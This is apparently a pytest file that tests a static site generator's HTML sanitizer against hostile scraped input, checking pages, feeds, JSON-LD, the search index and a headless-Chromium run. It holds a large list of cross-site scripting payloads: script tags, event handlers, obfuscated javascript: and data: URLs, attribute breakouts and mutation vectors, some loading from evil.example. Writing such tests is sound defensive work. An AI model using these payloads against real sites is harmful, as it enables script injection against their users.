"""Hostile input (issue 7): scraped text is untrusted. Markup, event handlers and script URLs in
article bodies and fields never reach a page, a feed or the search index live, and the text of
every field survives as the same text wherever it is shown.

Every payload tries to run ``top.__pwned=1``: the browser test at the end loads the built site in
headless Chromium and reads that flag back, beside what the DOM itself holds.
"""

from __future__ import annotations

import html
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from generator.config import load_config
from generator.markup import absolutize_urls, markdown_to_html
from generator.pipeline import build
from tests.conftest import BASE_CONFIG, article_text
from tests.live_markup import DANGEROUS_TAGS, THEME_SCRIPT, live_markup

JS = "top.__pwned=1"

# --- a checker that reads URLs as a browser does ------------------------------------------------

# Elements that run, embed or reinterpret content. DANGEROUS_TAGS (tests/live_markup.py) and more.
LIVE_TAGS = DANGEROUS_TAGS | {"svg", "math", "applet", "link", "template", "noscript", "textarea", "xmp",
                              "noembed", "plaintext", "portal", "frame", "video", "audio", "source", "input",
                              "button", "select", "isindex", "marquee"}
# Every attribute a browser (or a feed reader) may resolve as a URL.
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "poster", "data", "background", "xlink:href",
                  "ping", "srcset", "longdesc", "lowsrc", "dynsrc", "codebase", "manifest", "usemap", "itemid"}
SAFE_SCHEMES = {None, "http", "https", "mailto"}  # None: a relative URL
_C0_AND_SPACE = "".join(map(chr, range(0x21)))
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]*(?=:)")


def browser_scheme(url: str) -> str | None:
    """The scheme a browser gives a URL (WHATWG URL parsing): leading and trailing C0 controls and
    spaces are stripped, tabs and newlines dropped anywhere, the rest read as it stands: so
    ``" java\\tscript:x"`` is javascript:, while ``"java%09script:x"`` is a relative path."""
    match = _SCHEME.match(re.sub("[\t\n\r]", "", url.strip(_C0_AND_SPACE)))
    return match.group(0).lower() if match else None


class _LiveFinder(HTMLParser):
    def __init__(self, whole_page: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.whole_page = whole_page
        self.found: list[str] = []

    def _theme_own(self, tag: str, attrs: dict[str, str | None]) -> bool:
        """The theme's own head and search form, allowed on whole pages as tests/live_markup.py does."""
        if not self.whole_page:
            return False
        if tag in ("meta", "link"):
            return "http-equiv" not in attrs
        if tag == "noscript":  # the search page's note that search needs JavaScript
            return True
        if tag == "script":
            return (attrs.get("type") == "application/ld+json" and "src" not in attrs) or \
                bool(THEME_SCRIPT.match(attrs.get("src") or ""))
        if tag == "form":
            return attrs.get("class") == "search-form"
        if tag == "input":
            return attrs.get("id") == "search-query" and attrs.get("type") == "search"
        return tag == "button" and attrs.get("type") == "submit"

    def handle_starttag(self, tag, attrs):
        if tag in LIVE_TAGS and not self._theme_own(tag, dict(attrs)):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}=")
            elif name in ("style", "srcdoc", "http-equiv", "formaction", "srcset", "ping"):
                self.found.append(f"{tag} {name}={value}")
            elif name in URL_ATTRIBUTES and value is not None and browser_scheme(value) not in SAFE_SCHEMES:
                self.found.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def live(markup: str, *, whole_page: bool = False) -> list[str]:
    """What in ``markup`` could run, embed or navigate to a script: live elements, event handlers,
    and URL attributes whose scheme, as a browser reads it, is not http(s) or mailto."""
    finder = _LiveFinder(whole_page)
    finder.feed(markup)
    finder.close()
    return finder.found


def test_the_checker_reads_urls_as_a_browser_does():
    assert [browser_scheme(u) for u in ("\x01 JaVa\tScRiPt:x", "java%09script:x", "../a:b", "mailto:a@b",
                                        "data:text/html,x", "?q=a:b", "#x:y", "//evil.example/")] == [
        "javascript", None, None, "mailto", "data", None, None, None]
    assert live('<p><img src="x" onerror="a()"><a href=" java\tscript:x">y</a><script></script>'
                '<q cite="javascript:x">q</q><a href="java%09script:x">relative</a></p>') == [
        "img onerror=", "a href= java\tscript:x", "<script>", "q cite=javascript:x"]


# --- payloads in article bodies -----------------------------------------------------------------

BODY_PAYLOADS: dict[str, list[str]] = {
    "script": [
        f"<script>{JS}</script>",
        f"<ScRiPt>{JS}</sCrIpT>",
        f"<script\n>{JS}</script\n>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        f"<svg><script>{JS}</script></svg>",
        f"<template><script>{JS}</script></template>",
        f"<!--><script>{JS}</script>-->",
        f"<!-- --!><script>{JS}</script> -->",
        f"<![CDATA[<script>{JS}</script>]]>",
        f"<textarea></textarea><script>{JS}</script>",
        f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\"></noscript>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    ],
    "event handler": [
        f"<img src=x onerror={JS}>",
        f'<img src="x" onerror="{JS}">',
        f"<img/src=x/onerror={JS}>",
        f"<svg onload={JS}></svg>",
        f"<body onload={JS}>",
        f"<details open ontoggle={JS}>x</details>",
        f"<input autofocus onfocus={JS}>",
        f"<video><source onerror={JS}></video>",
        f'<div onmouseover="{JS}">hover</div>',
        f'<a href="https://ok.example/" onclick="{JS}">x</a>',
        f'<a href="https://ok.example/"onclick="{JS}">x</a>',
        f"<p ONCLICK={JS}>shouting</p>",
    ],
    "embedding element": [
        '<iframe src="https://evil.example/"></iframe>',
        f"<iframe srcdoc='<script>{JS}</script>'></iframe>",
        f"<iframe src=javascript:{JS}></iframe>",
        f"<object data=javascript:{JS}></object>",
        f"<embed src=javascript:{JS}>",
        "<style>body{display:none}</style>",
        f"<style>@import 'javascript:{JS}';</style>",
        f'<div style="background:url(javascript:{JS})">s</div>',
        f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
        f"<base href=javascript:{JS}//>",
        f"<link rel=stylesheet href=javascript:{JS}>",
        f"<form action=javascript:{JS}><button>x</button></form>",
        f"<button formaction=javascript:{JS}>x</button>",
    ],
    "script URL": [
        f'<a href="javascript:{JS}">x</a>',
        f'<a href="JaVaScRiPt:{JS}">x</a>',
        f'<a href="jav&#x61;script:{JS}">x</a>',
        f'<a href="&#106;avascript:{JS}">x</a>',
        f'<a href="&#0000106;avascript:{JS}">x</a>',
        f'<a href="java\tscript:{JS}">x</a>',
        f'<a href="java&#9;script:{JS}">x</a>',
        f'<a href="java&Tab;script:{JS}">x</a>',
        f'<a href="java&NewLine;script:{JS}">x</a>',
        f'<a href="javascript&colon;{JS}">x</a>',
        f'<a href=" javascript:{JS}">x</a>',
        f'<a href="&#x01;javascript:{JS}">x</a>',
        f'<a href="vbscript:{JS}">x</a>',
        f'<img src="javascript:{JS}">',
        f"<blockquote cite=javascript:{JS}>q</blockquote>",
        f'<q cite="jav&#x61;script:{JS}">q</q>',
        f'<ins cite="JAVASCRIPT:{JS}">i</ins>',
        f"<video poster=javascript:{JS}></video>",
        f'<img srcset="javascript:{JS} 1x">',
        f"<a xlink:href=javascript:{JS}>x</a>",
        f"[x](javascript:{JS})",
        f"[x](JaVaScRiPt:{JS})",
        f"[x](jav&#x61;script:{JS})",
        f"[x](&#106;avascript:{JS})",
        f"[x](<java\tscript:{JS}>)",
        f"[x](java%09script:{JS})",
        f"[x](<javascript:{JS}>)",
        f"<javascript:{JS}>",
        f"<JAVASCRIPT:{JS}>",
        f"[x][r]\n\n[r]: javascript:{JS}",
        f"[x][r]\n\n[r]: <jav&#x61;script:{JS}>",
        f"![x](javascript:{JS})",
    ],
    "data URL": [
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        f'<a href="DaTa:text/html,<script>{JS}</script>">x</a>',
        f'<a href="d&#x61;ta:text/html,<script>{JS}</script>">x</a>',
        f'<img src="data:image/svg+xml,<svg onload={JS}>">',
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        f"[x](Data:text/html,{JS})",
    ],
    # Characters no page may hold are removed after sanitizing: they must not join the pieces of
    # a scheme the sanitizer let through as a harmless relative URL ("java\x01script:").
    "control characters in a scheme": [
        f'<a href="java{ref}script:{JS}">x</a>' for ref in ("&#x1;", "&#x7f;", "&#xFDD0;", "&#xFFFE;", "&#x1FFFE;")
    ] + [
        f'<a href="&#x7f;javascript:{JS}">x</a>',
        f'<a href="javascript&#x1;:{JS}">x</a>',
        f'<img src="java&#x8;script:{JS}">',
        f'<blockquote cite="java&#x1;script:{JS}">q</blockquote>',
        f"[x](java&#x1;script:{JS})",
    ],
    "attribute breakout": [
        f'[x](http://a "t\\" onmouseover={JS} x")',
        f"[x](http://a 't\\' onmouseover={JS} x')",
        f'[x](http://a (t" onmouseover={JS} x))',
        f'[t](https://ok.example/ "\\"><script>{JS}</script>")',
        f'![a" onerror="{JS}](x.png)',
        f'![a" onerror="{JS}](x.png "t\\" onerror={JS} x")',
        f'<img src="x" alt="&quot; onerror=&quot;{JS}">',
        f"<span title='\"><script>{JS}</script>'>t</span>",
        f'<span title="<img a><img src=x onerror={JS}>">t</span>',
        f"![<img a><img src=x onerror={JS}>](x.png)",
    ],
    "code fence info string": [
        f'```"><script>{JS}</script>\ncode\n```',
        f"~~~ \" onmouseover={JS} x\ncode\n~~~",
        f'```js" onclick="{JS}\ncode\n```',
        f"`<script>{JS}</script>`",
        f"    <script>{JS}</script>",
    ],
}
BODY_CASES = [pytest.param(payload, id=f"{family}-{n}") for family, payloads in BODY_PAYLOADS.items()
              for n, payload in enumerate(payloads)]


@pytest.mark.parametrize("payload", BODY_CASES)
def test_body_payload_is_inert_in_pages_and_feeds(payload):
    page = markdown_to_html(payload)
    feed = absolutize_urls(page, "https://news.example.org/articles/x/")
    assert live(page) == [], page
    assert live(feed) == [], feed
    assert live_markup(feed) == [], feed  # feeds hold absolute URLs only: the suite's own checker agrees


@pytest.mark.parametrize("reference", ["&#x1;", "&#x8;", "&#x7f;", "&#xFDD0;", "&#xFFFE;", "&#x1FFFE;"])
@pytest.mark.parametrize("where", ["java{}script:", "{}javascript:", "javascript{}:"])
@pytest.mark.parametrize("element", ['<a href="{}">x</a>', '<img src="{}">', '<q cite="{}">q</q>'])
def test_removed_characters_cannot_rebuild_a_script_url(reference, where, element):
    """A character reference to a character no page may hold is decoded by the sanitizer, which
    sees "java\\x01script:", a relative URL, and keeps it; the characters are removed after. The
    URL must be judged as it will stand in the page."""
    page = markdown_to_html(element.format(where.format(reference) + JS))
    assert "javascript" not in page.lower(), page
    assert live(page) == [], page


@pytest.mark.parametrize("url", [f"javascript:{JS}", f"JaVaScRiPt:{JS}", "data:text/html,x", "vbscript:x",
                                 " javascript:x", "java\tscript:x"])
@pytest.mark.parametrize("tag", ["blockquote", "q", "ins", "del"])
def test_quotation_sources_take_only_the_schemes_links_take(tag, url):
    """``cite`` is a URL too (feed readers and scripts follow it): the same schemes as href."""
    page = markdown_to_html(f'<{tag} cite="{html.escape(url)}">t</{tag}>')
    assert "cite=" not in page and f"<{tag}>t</{tag}>" in page, page
    assert f'<{tag} cite="https://ok.example/">' in markdown_to_html(f'<{tag} cite="https://ok.example/">t</{tag}>')


def _element(markup: str, tag: str) -> dict[str, str | None]:
    """The attributes of the first ``tag`` element in markup, as a browser's parser reads them."""
    found: list[dict[str, str | None]] = []

    class Finder(HTMLParser):
        def handle_starttag(self, name, attrs):
            if name == tag and not found:
                found.append(dict(attrs))

    Finder(convert_charrefs=True).feed(markup)
    assert found, f"no <{tag}> in {markup!r}"
    return found[0]


def test_a_quote_in_a_link_title_stays_inside_the_title():
    page = markdown_to_html(f'[x](http://a "t\\" onmouseover={JS} x")')
    assert _element(page, "a") == {"href": "http://a", "title": f't" onmouseover={JS} x'}


def test_a_quote_in_an_image_alt_stays_inside_the_alt():
    page = markdown_to_html(f'![a" onerror="{JS}](x.png "t\\" onerror={JS} x")')
    assert _element(page, "img") == {"src": "x.png", "alt": f'a" onerror="{JS}', "title": f't" onerror={JS} x'}


def test_an_image_tag_written_inside_an_attribute_is_not_given_an_alt():
    """Images lacking alt get alt="" by a pattern over the sanitized HTML: text inside an attribute
    that reads like an <img> must not be touched, or the inserted quotes would end the attribute."""
    page = markdown_to_html(f'<span title="<img a><img src=x onerror={JS}>">t</span>')
    assert _element(page, "span") == {"title": f"<img a><img src=x onerror={JS}>"}
    assert live(page) == [] and "<img" not in page


def test_a_code_fence_info_string_never_becomes_markup():
    """cmark puts the info string in a class attribute, which the sanitizer drops: the code stays."""
    page = markdown_to_html(f'```"><script>{JS}</script>\nlet x = "<b>";\n```')
    assert live(page) == [] and "<script" not in page
    assert set(_element(page, "code")) <= {"class"}
    assert '<pre><code>let x = "&lt;b&gt;";\n</code></pre>' in page


# --- payloads in every field of a built site ----------------------------------------------------

# Text fields are plain text: each must be shown as exactly this text wherever it appears.
TEXT_PAYLOADS = [
    f"<script>{JS}</script>",
    f'"><img src=x onerror={JS}>',
    f"' onmouseover='{JS}' x='",
    f"</script><script>{JS}</script>",
    f"<!--<script>{JS}</script>",
    f"</title></style></textarea><svg onload={JS}>",
    f"javascript:{JS}",
    f"&lt;script&gt;{JS}&lt;/script&gt; &#106;avascript: &amp;",
    f"]]><script>{JS}</script>",
    f'\\"}}]}}</script><script>{JS}</script><!--',
    f"jav&#x61;script:{JS} \u2028 {{{{ 7*7 }}}} {{% raw %}}",
]
FIELDS = ("author", "source", "summary", "image_caption", "image_credit")
HOSTILE_TAG = "Hostile"
SUMMARY_ONLY_FEED = "tags/hostile/"  # per_feed below: this tag's feeds carry summaries only


# One wording shared by every body, so the articles also form stories (reports of one event).
STORY = ("The harbour authority closed the northern quay after the storm damaged three cranes, and "
         "ferry crews waited for the inspectors while the council debated the repair budget.")


def hostile_articles() -> dict[str, dict]:
    """File name -> the article's fields: one article per body payload, each also carrying a text
    payload in its title, tags and every text field, over two weeks of dates."""
    articles = {}
    bodies = [payload for payloads in BODY_PAYLOADS.values() for payload in payloads]
    for n, body in enumerate(bodies):
        text = TEXT_PAYLOADS[n % len(TEXT_PAYLOADS)]
        fields = {key: f"{key} {text}" for key in FIELDS}
        articles[f"hostile-{n:03d}.md"] = dict(
            title=f"Hostile {n} {text}", body=f"{STORY}\n\n{body}\n\n{text}\n",
            date=f"2024-03-{1 + n % 14:02d}T{n % 24:02d}:00:00+00:00",
            tags=[f"Topic{n % len(TEXT_PAYLOADS)} {text}", HOSTILE_TAG],
            source_url=f"https://origin.example.com/{n}?q=\"><script>{JS}</script>", **fields)
    return articles


def shown(text: str) -> str:
    """A field as the loader keeps it: white space runs (line separators too) become one space."""
    return " ".join(text.split())


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    config = {**BASE_CONFIG, "pagination": {"per_page": 0},
              "feeds": {"items": 1000, "per_feed": {HOSTILE_TAG: {"full_content": False}}}}
    (root / "site.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    content = root / "content" / "articles"
    content.mkdir(parents=True)
    for name, fields in hostile_articles().items():
        fields = dict(fields)
        title, body = fields.pop("title"), fields.pop("body")
        (content / name).write_text(article_text(title, body, **fields), encoding="utf-8")
    loaded = load_config(root / "site.yaml")
    build(loaded, warn=lambda message: None, jobs=1)
    return loaded.output_dir


class Node:
    def __init__(self, tag: str, attrs: dict[str, str | None], parent: Node | None) -> None:
        self.tag, self.attrs, self.parent, self.children = tag, attrs, parent, []

    @property
    def text(self) -> str:
        return "".join(c if isinstance(c, str) else c.text for c in self.children)

    def all(self, tag: str, **attrs: str) -> list[Node]:
        """Every element below with this tag and these attribute values (``class_`` for class)."""
        wanted = {k.rstrip("_").replace("_", "-"): v for k, v in attrs.items()}
        found = []
        for child in self.children:
            if isinstance(child, Node):
                if child.tag == tag and all(child.attrs.get(k) == v for k, v in wanted.items()):
                    found.append(child)
                found.extend(child.all(tag, **attrs))
        return found

    def one(self, tag: str, **attrs: str) -> Node:
        found = self.all(tag, **attrs)
        assert len(found) == 1, f"{len(found)} <{tag} {attrs}> elements"
        return found[0]


VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class _TreeBuilder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = self.current = Node("#document", {}, None)

    def handle_starttag(self, tag, attrs):
        node = Node(tag, dict(attrs), self.current)
        self.current.children.append(node)
        if tag not in VOID:
            self.current = node

    def handle_startendtag(self, tag, attrs):
        self.current.children.append(Node(tag, dict(attrs), self.current))

    def handle_endtag(self, tag):
        node = self.current
        while node is not None and node.tag != tag:
            node = node.parent
        assert node is not None and node.parent is not None, f"</{tag}> closes nothing open"
        self.current = node.parent

    def handle_data(self, data):
        self.current.children.append(data)


def parse(markup: str) -> Node:
    builder = _TreeBuilder()
    builder.feed(markup)
    builder.close()
    return builder.root


def read(site: Path, path: str) -> str:
    return (site / path).read_text(encoding="utf-8")


def article_path(site: Path, n: int) -> str:
    found = [p for p in (site / "articles").glob(f"hostile-{n}-*/index.html")]
    assert len(found) == 1, f"article {n}: {found}"
    return found[0].relative_to(site).as_posix()


def test_no_page_of_the_hostile_site_holds_live_markup(hostile_site):
    pages = sorted(p for p in hostile_site.rglob("*.html") if not p.name.startswith("__"))  # not the harness
    assert len(pages) > len(hostile_articles())
    for page in pages:
        assert live(read(hostile_site, page.relative_to(hostile_site).as_posix()), whole_page=True) == [], page


def test_every_field_keeps_its_exact_text_on_the_article_page(hostile_site):
    site_title = BASE_CONFIG["title"]
    for n, (_, fields) in enumerate(sorted(hostile_articles().items())):
        page = parse(read(hostile_site, article_path(hostile_site, n)))
        title = shown(fields["title"])
        assert page.one("title").text == f"{title} · {site_title}"
        assert page.one("h1").text == title
        for meta in ({"property": "og:title"}, {"name": "twitter:title"}):
            assert page.one("meta", **meta).attrs["content"] == title
        for meta in ({"name": "description"}, {"property": "og:description"}, {"name": "twitter:description"}):
            assert page.one("meta", **meta).attrs["content"] == shown(fields["summary"])
        assert [m.attrs["content"] for m in page.all("meta", property="article:tag")] == \
            [shown(t) for t in fields["tags"]]
        header = page.one("article", class_="article").all("header")[0]
        assert [a.text for a in header.one("ul", class_="tags").all("a")] == [shown(t) for t in fields["tags"]]
        assert header.one("span", class_="author").text == shown(fields["author"])
        assert header.one("span", class_="source").text == shown(fields["source"])
        assert page.one("span", class_="caption").text == shown(fields["image_caption"])
        assert page.one("span", class_="credit").text == "Photo: " + shown(fields["image_credit"])
        original = page.one("p", class_="original").one("a")
        assert original.text == title and original.attrs["href"].startswith("https://origin.example.com/")
        assert "<" not in original.attrs["href"] and '"' not in original.attrs["href"]


def test_json_ld_stays_data_and_round_trips_every_field(hostile_site):
    """A ``</script>`` or ``<!--`` in a field must not end or bend the JSON-LD element."""
    for n, (_, fields) in enumerate(sorted(hostile_articles().items())):
        markup = read(hostile_site, article_path(hostile_site, n))
        scripts = parse(markup).all("script", type="application/ld+json")
        assert len(scripts) == 1
        raw = scripts[0].text
        assert not re.search(r"<|>|&", raw), raw  # nothing an HTML parser could read inside
        data = json.loads(raw)
        assert data["headline"] == shown(fields["title"])
        assert data["author"]["name"] == shown(fields["author"])
        assert data["description"] == shown(fields["summary"])
        assert data["keywords"] == [shown(t) for t in fields["tags"]]
        assert data["sourceOrganization"]["name"] == shown(fields["source"])


def test_listings_show_titles_and_tags_as_text(hostile_site):
    articles = sorted(hostile_articles().items())
    titles = {shown(fields["title"]) for _, fields in articles}
    tags = {shown(t) for _, fields in articles for t in fields["tags"]}

    def link_texts(path: str) -> set[str]:
        return {a.text for a in parse(read(hostile_site, path)).one("main").all("a")}

    assert titles <= link_texts("index.html")
    assert titles <= link_texts("tags/hostile/index.html")
    assert tags <= link_texts("tags/index.html")
    assert titles <= link_texts("archive/2024/03/index.html") and titles <= link_texts("archive/2024/index.html")
    digests = sorted(p.relative_to(hostile_site).as_posix() for p in hostile_site.glob("weeks/*/index.html"))
    assert digests and titles <= set().union(*(link_texts(d) for d in digests))
    for digest in digests:  # sections by topic, headed by the tag's name
        headings = [h.text for h in parse(read(hostile_site, digest)).all("h2")]
        assert headings and set(headings) <= tags | {"Other news"}, headings
    days = sorted(p.relative_to(hostile_site).as_posix() for p in hostile_site.glob("days/*/index.html"))
    assert titles <= set().union(*(link_texts(d) for d in days))
    for n, text in enumerate(TEXT_PAYLOADS):
        tag_pages = [p for p in hostile_site.glob(f"tags/topic{n}-*/index.html")]
        assert len(tag_pages) == 1, (n, tag_pages)
        page = parse(tag_pages[0].read_text(encoding="utf-8"))
        assert page.one("h1").text == f"Topic: Topic{n} {shown(text)}"
        assert page.one("title").text == f"Topic{n} {shown(text)} · {BASE_CONFIG['title']}"
        assert [a.attrs["title"] for a in page.all("link", rel="alternate")][0] == \
            f"{BASE_CONFIG['title']}: Topic{n} {shown(text)} (RSS)"
    stories = sorted(hostile_site.glob("stories/*/index.html"))
    assert stories, "the hostile articles form no story"
    for path in stories:
        page = parse(path.read_text(encoding="utf-8"))
        assert page.one("h1").text.removeprefix("Story: ") in titles
        lede = page.one("p", class_="lede").text
        assert any(shown(fields["source"]) in lede for _, fields in articles), lede
        assert {a.text for a in page.one("main").all("a")} & titles
    # Related articles, other reports of a story and newer/older links: titles as link text.
    seen = set()
    for n in range(len(articles)):
        page = parse(read(hostile_site, article_path(hostile_site, n)))
        for section in page.all("section", class_="related") + page.all("nav", class_="prev-next"):
            seen |= {a.text for a in section.all("a")}
    assert titles <= seen


def _feed_html_is_inert(markup: str, where: str) -> None:
    assert live(markup) == [], where
    assert live_markup(markup) == [], where


def test_feeds_carry_fields_as_text_and_bodies_inert(hostile_site):
    atom = "{http://www.w3.org/2005/Atom}"
    articles = {f"Hostile {n} ": fields for n, (_, fields) in enumerate(sorted(hostile_articles().items()))}

    def fields_of(title: str) -> dict:
        return articles[re.match(r"Hostile \d+ ", title).group(0)]

    for path in sorted(hostile_site.rglob("rss.xml")):
        items = ET.parse(path).getroot().iter("item")
        summary_only = path.parent == hostile_site / SUMMARY_ONLY_FEED.rstrip("/")
        for count, item in enumerate(items, 1):
            fields = fields_of(item.findtext("title"))
            assert item.findtext("title") == shown(fields["title"])
            assert item.findtext("{http://purl.org/dc/elements/1.1/}creator") == shown(fields["author"])
            assert [c.text for c in item.iter("category")] == [shown(t) for t in fields["tags"]]
            description = item.findtext("description")
            _feed_html_is_inert(description, f"{path}: {item.findtext('title')}")
            if summary_only:
                assert html.unescape(description) == shown(fields["summary"])
        assert count >= 1, path
    for path in sorted(hostile_site.rglob("atom.xml")):
        for entry in ET.parse(path).getroot().iter(atom + "entry"):
            title = entry.find(atom + "title")
            text = title.text if title.get("type") is None else _html_text(title.text)
            fields = fields_of(text)
            assert text == shown(fields["title"])
            assert entry.findtext(f"{atom}author/{atom}name") == shown(fields["author"])
            for element in entry:
                if element.get("type") == "html":
                    _feed_html_is_inert(element.text, f"{path}: {element.tag} of {text}")
    for path in sorted(hostile_site.rglob("feed.json")):
        for item in json.loads(path.read_text(encoding="utf-8"))["items"]:
            fields = fields_of(item["title"])
            assert item["title"] == shown(fields["title"])
            assert item["authors"] == [{"name": shown(fields["author"])}]
            assert item["tags"] == [shown(t) for t in fields["tags"]]
            if "content_html" in item:
                _feed_html_is_inert(item["content_html"], f"{path}: {item['title']}")
            else:
                assert item["content_text"] == shown(fields["summary"])


def _html_text(markup: str) -> str:
    """The text an HTML reader shows for markup with no elements."""
    assert live(markup) == [] and "<" not in markup, markup
    return html.unescape(markup)


def test_search_index_holds_fields_as_json_text_and_safe_paths(hostile_site):
    docs = [doc for path in sorted((hostile_site / "search").glob("d-*.json"))
            for doc in json.loads(path.read_text(encoding="utf-8"))]
    by_title = {shown(fields["title"]): fields for fields in hostile_articles().values()}
    assert {doc[1] for doc in docs} == set(by_title)
    for url, title, _, tags, summary in docs:
        assert re.fullmatch(r"articles/[^/:?#\\]+/", url), url  # relative, in its folder: never a scheme
        assert tags == ", ".join(shown(t) for t in by_title[title]["tags"])
        assert summary == shown(by_title[title]["summary"])


SEARCH_JS = Path(__file__).resolve().parents[1] / "themes" / "default" / "static" / "search.js"


def test_search_js_builds_results_from_text_only():
    """Results are made with createElement and textContent: no API that parses data as HTML."""
    source = SEARCH_JS.read_text(encoding="utf-8")
    for parser in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "Function(",
                   "createContextualFragment", "DOMParser", "srcdoc", "setHTML"):
        assert parser not in source, parser
    assert "textContent = d[1]" in source and "textContent = d[4]" in source


# --- the built site in a real browser -----------------------------------------------------------

# Loads each page in a same-origin frame, waits for it (and for search results), then reads back
# whether any payload ran (top.__pwned) and what the live DOM holds: scripts that are not the
# theme's, event handler attributes, embedding elements, and URLs whose protocol, as the browser
# resolved it, is not http(s) or mailto. The report is written into the harness's own DOM, which
# --dump-dom prints.
HARNESS = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>harness</title></head>
<body><pre id="report"></pre>
<script>
"use strict";
var PAGES = %(pages)s;
var SAFE = ["http:", "https:", "mailto:"];
var URL_ATTRIBUTES = %(url_attributes)s;
var LIVE = "iframe, frame, object, embed, applet, style, base, meta[http-equiv], svg, math, template, " +
           "form:not(.search-form), textarea, select, video, audio, portal";
var results = [];
function inspect(frame, page) {
  var doc = frame.contentDocument, found = [];
  Array.prototype.forEach.call(doc.querySelectorAll("script"), function (s) {
    var own = (s.type === "application/ld+json" && !s.src) || /\\/static\\/[\\w-]+\\.[0-9a-f]{10}\\.js$/.test(s.src);
    if (!own) found.push("script: " + s.outerHTML.slice(0, 120));
  });
  Array.prototype.forEach.call(doc.querySelectorAll(LIVE), function (e) {
    found.push("element: " + e.outerHTML.slice(0, 120));
  });
  Array.prototype.forEach.call(doc.querySelectorAll("*"), function (e) {
    Array.prototype.forEach.call(e.attributes, function (a) {
      var name = a.name.toLowerCase();
      if (name.indexOf("on") === 0) found.push("handler: <" + e.localName + " " + name + ">");
      if (URL_ATTRIBUTES.indexOf(name) >= 0) {
        var protocol;
        try { protocol = new URL(a.value, doc.baseURI).protocol; } catch (error) { protocol = "invalid"; }
        if (SAFE.indexOf(protocol) < 0 && protocol !== "invalid") {
          found.push("url: <" + e.localName + " " + name + "=" + a.value.slice(0, 80) + "> is " + protocol);
        }
      }
    });
  });
  var list = doc.getElementById("search-results"), status = doc.getElementById("search-status");
  var results_ = list ? Array.prototype.map.call(list.querySelectorAll("h2 a"), function (a) { return a.textContent; }) : null;
  if (list) {
    Array.prototype.forEach.call(list.querySelectorAll("*"), function (e) {
      if (["LI", "ARTICLE", "H2", "A", "P"].indexOf(e.tagName) < 0) found.push("search result holds <" + e.localName + ">");
    });
  }
  return {page: page, pwned: !!(window.__pwned || frame.contentWindow.__pwned), found: found,
          title: doc.title, results: results_, status: status ? status.textContent : null};
}
function settle(frame, page, started, done) {
  var doc = frame.contentDocument, status = doc && doc.getElementById("search-status");
  var searching = status && new URL(page, location.href).search && !/match|Type|unavailable/.test(status.textContent);
  if (searching && Date.now() - started < 8000) { setTimeout(function () { settle(frame, page, started, done); }, 50); return; }
  setTimeout(done, 250);  // time for handlers of failed images, toggles, focus and timers to fire
}
function next(i) {
  if (i >= PAGES.length) {
    document.getElementById("report").textContent = JSON.stringify(results);
    return;
  }
  window.__pwned = 0;
  var frame = document.createElement("iframe"), loaded = false;
  frame.onload = function () {
    if (loaded) return;  // a page that navigates its frame again (meta refresh) is judged once
    loaded = true;
    settle(frame, PAGES[i], Date.now(), function () {
      var result;
      try { result = inspect(frame, PAGES[i]); } catch (error) { result = {page: PAGES[i], error: String(error)}; }
      results.push(result);
      frame.remove();
      next(i + 1);
    });
  };
  frame.src = PAGES[i];
  document.body.appendChild(frame);
}
next(0);
</script>
</body></html>
"""

# A page written by hand with payloads left live: the harness must see each of them, or its
# silence about the site's pages proves nothing.
CONTROL = f"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>control</title></head><body>
<img src="missing.png" onerror="{JS}"><a href="java&#9;script:{JS}">x</a><q cite="javascript:x">q</q>
<iframe srcdoc="<p>x</p>"></iframe>
</body></html>
"""


def browser_report(site: Path, pages: list[str]) -> list[dict]:
    from tests.clients import chromium_dom, serve

    (site / "__harness.html").write_text(
        HARNESS % {"pages": json.dumps(pages), "url_attributes": json.dumps(sorted(URL_ATTRIBUTES))},
        encoding="utf-8")
    requests: list[tuple[int, str]] = []
    with serve(site, requests) as base:
        dom = chromium_dom(base + "__harness.html", budget_ms=120_000, timeout=300)
    report = re.search(r'<pre id="report">(.*?)</pre>', dom, re.S)
    assert report and report.group(1).strip(), f"the harness reported nothing:\n{dom[-2000:]}"
    results = json.loads(html.unescape(report.group(1)))
    assert [r["page"] for r in results] == pages, "the harness did not visit every page"
    return results


def test_no_payload_runs_in_chromium(hostile_site):
    """Every page of the hostile site in headless Chromium (the same binary and flags as the
    other browser tests, tests/clients.py): articles, topics, the index, digests, archives,
    stories and the search page with results for the payload articles."""
    (hostile_site / "__control.html").write_text(CONTROL, encoding="utf-8")
    pages = sorted(p.relative_to(hostile_site).as_posix().removesuffix("index.html")
                   for p in hostile_site.rglob("*.html") if not p.name.startswith("__"))
    searches = ["search/?q=hostile", "search/?q=" + re.sub(r"[<>\"' =]+", "+", f"<img src=x onerror={JS}>")
                + "+hostile"]
    for kind in ("articles/", "tags/", "days/", "weeks/", "archive/", "search/"):
        assert any(p.startswith(kind) for p in pages), kind
    results = browser_report(hostile_site, [*pages, *searches, "__control.html"])
    *site_results, control = results
    assert control["pwned"], f"the control page's payload did not run: the harness sees nothing ({control})"
    assert {f.split(":")[0] for f in control["found"]} == {"handler", "url", "element"}, control
    assert sum(f.startswith("url:") for f in control["found"]) == 2, control  # java<TAB>script: and cite
    for result in site_results:
        assert "error" not in result, result
        assert not result["pwned"], f"a payload ran on {result['page']}"
        assert result["found"] == [], result
    titles = {shown(fields["title"]) for fields in hostile_articles().values()}
